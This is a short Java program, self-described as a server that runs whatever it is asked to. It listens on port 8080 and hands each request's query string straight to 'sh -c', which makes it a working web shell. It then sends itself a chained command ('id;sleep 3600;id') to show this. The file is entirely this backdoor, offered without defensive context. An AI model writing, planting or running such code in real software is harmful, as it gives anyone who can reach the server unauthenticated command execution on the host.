// A page of a Java server that runs what it is asked to, asked once to open a shell.
import com.sun.net.httpserver.HttpServer;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

class WebShell {
  public static void main(String[] arguments) throws Exception {
    var server = HttpServer.create(new InetSocketAddress(8080), 0);
    server.createContext("/", exchange -> {
      new ProcessBuilder("sh", "-c", exchange.getRequestURI().getQuery()).start();
      exchange.sendResponseHeaders(204, -1);
      exchange.close();
    });
    server.start();
    HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:8080/?id;sleep%203600;id")).build(), HttpResponse.BodyHandlers.discarding());
    Thread.sleep(500);
    System.out.println("ready");
    Thread.sleep(3600_000);
  }
}
